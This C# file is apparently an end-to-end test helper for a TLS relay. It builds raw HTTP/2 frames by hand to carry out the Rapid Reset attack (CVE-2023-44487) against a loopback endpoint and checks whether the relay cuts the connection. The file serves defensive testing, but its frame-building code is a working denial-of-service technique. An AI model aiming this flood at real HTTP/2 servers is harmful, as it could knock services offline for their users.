using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;

namespace Tunnel.EndToEnd.Tests.Tls;

/// <summary>
/// An HTTP/2 caller that opens streams and resets each of them in the same breath (CVE-2023-44487), frame by frame: no HTTP library can be made to.
/// </summary>
internal static class RapidReset
{
    private const byte HeadersType = 1;
    private const byte ResetType = 3;
    private const byte SettingsType = 4;
    private const byte PingType = 6;
    private const byte EndStreamAndHeaders = 0x5;
    private const int FrameHeaderBytes = 9;
    private const int StreamsInOneWrite = 50;
    private const uint Cancel = 8;

    private static readonly byte[] s_preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray();

    /// <returns>Whether the relay ended the connection; otherwise it answers a ping after all streams.</returns>
    public static async Task<bool> RunAsync(Uri url, X509ChainPolicy trust, int streams, CancellationToken cancellationToken)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, url.Port, cancellationToken);
        await using var tls = new SslStream(new NetworkStream(socket));
        await tls.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions
            {
                TargetHost = url.Host,
                ApplicationProtocols = [SslApplicationProtocol.Http2],
                CertificateChainPolicy = trust,
            },
            cancellationToken
        );
        var ended = EndsBeforeThePingAsync(tls, cancellationToken);
        try
        {
            await tls.WriteAsync((byte[])[.. s_preface, .. Frame(SettingsType, 0, 0, [])], cancellationToken);
            for (var stream = 1; stream < 2 * streams && !ended.IsCompleted; stream += 2 * StreamsInOneWrite)
            {
                await tls.WriteAsync(OpenAndReset(stream, url.Authority), cancellationToken);
            }

            await tls.WriteAsync(Frame(PingType, 0, 0, new byte[8]), cancellationToken);
        }
        catch (IOException)
        {
            // The relay had enough.
        }

        return await ended;
    }

    private static byte[] OpenAndReset(int first, string authority)
    {
        // :method GET, :scheme https, :path / by their numbers (RFC 7541 appendix A); :authority in letters.
        var host = Encoding.ASCII.GetBytes(authority);
        byte[] fields = [0x82, 0x87, 0x84, 0x01, (byte)host.Length, .. host];
        var code = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(code, Cancel);
        return
        [
            .. Enumerable
                .Range(0, StreamsInOneWrite)
                .Select(number => first + 2 * number)
                .SelectMany(id => (byte[])[.. Frame(HeadersType, EndStreamAndHeaders, id, fields), .. Frame(ResetType, 0, id, code)]),
        ];
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[FrameHeaderBytes + payload.Length];
        BinaryPrimitives.WriteUInt32BigEndian(frame, (uint)payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, FrameHeaderBytes);
        return frame;
    }

    private static async Task<bool> EndsBeforeThePingAsync(Stream stream, CancellationToken cancellationToken)
    {
        var header = new byte[FrameHeaderBytes];
        try
        {
            do
            {
                await stream.ReadExactlyAsync(header, cancellationToken);
                await stream.ReadExactlyAsync(new byte[BinaryPrimitives.ReadUInt32BigEndian(header) >> 8], cancellationToken);
            } while (header[3] != PingType);

            return false;
        }
        catch (IOException)
        {
            return true;
        }
    }
}
